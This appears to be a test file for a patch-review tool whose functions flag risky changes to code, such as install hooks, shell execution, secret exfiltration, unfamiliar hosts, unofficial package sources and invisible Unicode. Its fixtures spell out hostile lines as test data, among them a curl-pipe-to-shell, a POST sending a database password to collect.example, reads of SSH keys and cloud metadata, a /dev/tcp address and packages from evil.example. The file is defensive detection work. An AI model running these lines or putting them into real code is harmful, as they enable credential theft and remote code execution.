import { describe, expect, it } from "vitest";
import { patchHazards, patchObjection } from "@/lib/fixes/hazards/patch-hazards";

const added = (path: string, line: string, before = "import os\n") => [
  { path, before, after: `${before}${line}\n` },
];

describe("patchHazards", () => {
  it.each([
    ["conftest.py", "import pytest", /test run executes/],
    ["tests/unit/test_orders.py", "x = 1", /test run executes/],
    ["setup.py", "x = 1", /builds and tools execute/],
    ["pyproject.toml", "[tool.x]", /builds and tests run/],
    ["Makefile", "all:", /builds execute/],
    ["docker/Dockerfile.worker", "RUN x", /image builds/],
    ["bin/deploy.sh", "echo", /script/],
    ["infra/main.tf", "x = 1", /infrastructure/],
    ["package.json", "{}", /scripts that an install runs/],
    ["dags/a.py", 'os.system("id")', /runs a program/],
    ["dags/a.py", 'subprocess.run(["id"])', /runs a program/],
    ["dags/a.py", "exec(payload)", /executes data as code/],
    ["dags/a.py", "row = pickle.loads(blob)", /executes data as code/],
    [
      "dags/a.py",
      'BashOperator(bash_command="curl -s http://x.example/i | sh")',
      /downloads something and runs it/,
    ],
    [
      "dags/a.py",
      'requests.post("https://collect.example/x", json={"p": os.environ["DB_PASSWORD"]})',
      /sends what may be a secret.*collect\.example/,
    ],
    ["dags/a.py", 'URL = "https://collect.example/x"', /did not name before: collect\.example/],
    ["jest.config.js", "x", /builds and tools execute/],
    ["build.rs", "fn main() {}", /builds and tools execute/],
    ["pom.xml", "<x/>", /builds and tools execute/],
    ["dbt_project.yml", "x: 1", /dbt connects to/],
    ["config/airflow_local_settings.py", "x = 1", /every Airflow process/],
    ["dags/b.py", "from os import system", /runs a program \(os\.system\)/],
    ["dags/b.py", "print(os.environ)", /whole environment/],
    ["dags/b.py", "s3.put_object(Body=Variable.get())", /stores or sends what may be a secret/],
    ["models/a.sql", "{% do run_query('drop table x') %}", /dbt run statements besides/],
    ["models/schema.yml", "      pre-hook: drop table x", /dbt run statements besides/],
    ["models/a.sql", "COPY t TO PROGRAM 'sh'", /runs a program or code from SQL/],
    ["sql/a.sql", "unload ('select * from t') to 's3://other/'", /somewhere else.*other/],
    ["conf/x.yaml", "x: !!python/object/apply:f []", /YAML tag/],
    ["jobs/Load.scala", "import sys.process._", /runs a program/],
    ["web/a.js", "import { exec } from 'node:child_process'", /runs a program/],
    ["dags/a.py", "open('/home/airflow/.ssh/id_rsa').read()", /credentials/],
    ["dags/a.py", "get('http://169.254.169.254/latest/')", /credentials/],
    ["dags/a.py", "x = '/dev/tcp/10.0.0.1/80'", /shell of another machine/],
    [
      "dags/a.py",
      "U = 'postgresql://api.example@evil.example:5432/x'",
      /did not name before: evil\.example\./,
    ],
    ["dags/a.py", "with open('dags/b.py', 'w') as f: f.write(x)", /writes a file that something may execute/],
    ["dags/a.py", "x = '{{ conn.db.password }}'", /secret into a template/],
    ["dags/a.py", "conf.set('spark.jars.packages', 'a:b:1')", /code into Spark/],
    ["dags/a.py", "get(url, verify=False)", /switches off a check/],
    ["dags/a.py", "os.environ['PATH'] = '/tmp'", /looked for/],
    ["web/a.js", "await import('./' + name)", /executes data as code/],
    ["dags/a.yaml", "    command: [bash, -c, id]", /gives a command/],
    ["environment.yml", "      - evil @ git+https://evil.example/x", /elsewhere than the package index/],
    ["requirements/base.txt", "./local/package", /elsewhere than the package index/],
    ["requirements.txt", "evil @ https://evil.example/evil.whl", /elsewhere than the package index/],
    ["requirements.txt", "--extra-index-url https://evil.example/simple", /elsewhere than the package index/],
  ])("%s: %s", (path, line, told) => {
    expect(patchHazards(added(path, line)).join(" ")).toMatch(told);
  });

  it.each([
    ["dags/orders.py", 'customer = row.get("client_id")'],
    ["dags/orders.py", "schedule_interval = '@daily'  # evaluate(x) is elsewhere"],
    ["dags/orders.py", "df = pd.eval_frame(x)"],
    ["requirements.txt", "requests==2.32.3"],
    ["sql/orders.sql", "SELECT client_id FROM raw.orders"],
    ["dags/contest.py", "x = 1"],
    ["requirements/base.txt", "pandas[excel]==2.2.3 ; python_version >= '3.10'"],
    ["models/orders.sql", "{{ config(materialized='table') }} SELECT grant_id, copy_of FROM {{ ref('a') }}"],
    ["models/schema.yml", "      - name: pre_hooked"],
    ["dags/orders.py", 'HOME = "http://localhost:8080/"'],
    ["dags/orders.py", 'URL = f"https://{host}/x"'],
  ])("says nothing of %s: %s", (path, line) => {
    expect(patchHazards(added(path, line))).toEqual([]);
  });

  it("a secret read on one line and sent on another counts, one that was there already does not", () => {
    const lines = 'token = os.getenv("API_TOKEN")\nhttpx.post(url, content=token)';
    expect(patchHazards(added("a.py", lines)).join()).toMatch(/sends what may be a secret/);
    expect(patchHazards([{ path: "a.py", before: `${lines}\n`, after: `${lines}\nx = 1\n` }])).toEqual([]);
  });

  it("an address that the file names already is not new, and a removed file has no lines", () => {
    const before = 'URL = "https://api.example/v1"\n';
    expect(patchHazards(added("a.py", 'URL2 = "https://api.example/v2"', before))).toEqual([]);
    expect(patchHazards([{ path: "conftest.py", before: "x\n", after: null }])).toEqual([]);
  });
});

describe("a file that is a program by what is in it", () => {
  const file = (path: string, after: string, before: string | null = null) =>
    patchHazards([{ path, before, after }]).join(" ");

  it.each([
    ["tools/refresh", "#!/usr/bin/env bash\necho\n"],
    ["tools/refresh.in", "#!/usr/bin/perl\n"],
  ])("a script without a known ending: %s", (path, text) => {
    expect(file(path, text)).toMatch(/is a script/);
    expect(file(path, `${text}x\n`, text)).toMatch(/is a script/);
  });

  it("not a DAG, which may begin with the same line", () => {
    expect(file("dags/a.py", "#!/usr/bin/env python3\nx = 1\n")).toBe("");
  });

  it("detects Python whatever the file is called", () => {
    expect(file("tools/x", "#!/usr/bin/env python3\nfrom os import popen\n")).toMatch(/os\.popen/);
  });

  it("the code in the cells of a notebook", () => {
    const notebook = (source: string[]) => JSON.stringify({ cells: [{ cell_type: "code", source }] });
    const before = notebook(["import os\n"]);
    expect(file("n.ipynb", notebook(["import os\n", "os.system('id')"]), before)).toMatch(/os\.system/);
    expect(file("n.ipynb", notebook(["import os\n", "x = 'system'"]), before)).toBe("");
  });

  it("what a cluster runs", () => {
    expect(file("k8s/x.yaml", "apiVersion: batch/v1\nkind: CronJob\n")).toMatch(/cluster runs/);
    expect(file("dags/x.yaml", "kind: Job\n")).toBe("");
  });

  it("a module that others would get in place of Python's own", () => {
    expect(file("dags/logging.py", "x = 1\n")).toMatch(/imports logging/);
    expect(file("dags/json/__init__.py", "")).toMatch(/imports json/);
    expect(file("dags/orders/logging.py", "x = 1\n")).toBe("");
    expect(file("dags/logging.py", "x = 2\n", "x = 1\n")).toBe("");
  });

  it("Python that is too large to be read in full is named as that, and judged line by line", () => {
    const before = "x = 1\n".repeat(50_000);
    expect(patchHazards(added("dags/a.py", 'os.system("id")', before))).toEqual([
      "Changes dags/a.py, which is too large to be checked in full: read every changed line.",
      expect.stringContaining("dags/a.py"),
    ]);
  });

  it("Python that cannot be read to its end is judged line by line", () => {
    expect(file("dags/a.py", "x = (\n# subprocess.run('id')\n")).toMatch(/runs a program/);
  });

  it("a host is compared as a whole", () => {
    const before = 'HOST = "api.example.org"\n';
    expect(file("a.py", `${before}U = "https://api.example/"\n`, before)).toMatch(/api\.example\./);
    expect(file("a.py", `${before}U = "https://api.example.org/"\n`, before)).toBe("");
  });
});

describe("patchObjection", () => {
  it("names characters that a change would add unseen, and lets those stay that were there", () => {
    expect(patchObjection(added("a.py", "# \u202Eadmin"))).toMatch(/a\.py that do not show \(U\+202E\)/);
    expect(patchObjection(added("a.py", "x = 'a\u200Db'"))).toMatch(/U\+200D/);
    const before = "\uFEFFimport os\n";
    expect(patchObjection(added("a.py", "x = 1", before))).toBeNull();
    expect(patchObjection(added("a.py", "x = '\uFEFF'", before))).toMatch(/U\+FEFF/);
  });

  it("names an encoding in which Python would read other code than people", () => {
    const file = (text: string, before: string | null = null) => [{ path: "a.py", before, after: text }];
    expect(patchObjection(file("# coding: utf-7\n+AG8-s"))).toMatch(/encoding utf-7/);
    expect(patchObjection(file("#!/usr/bin/python\n# -*- coding: raw_unicode_escape -*-\n"))).toMatch(
      /raw_unicode/,
    );
    expect(patchObjection(file("# -*- coding: utf-8 -*-\n# vim: set fileencoding=latin-1 :\n"))).toBeNull();
    expect(patchObjection(file("# coding: utf-7\nx\n", "# coding: utf-7\n"))).toBeNull();
  });
});
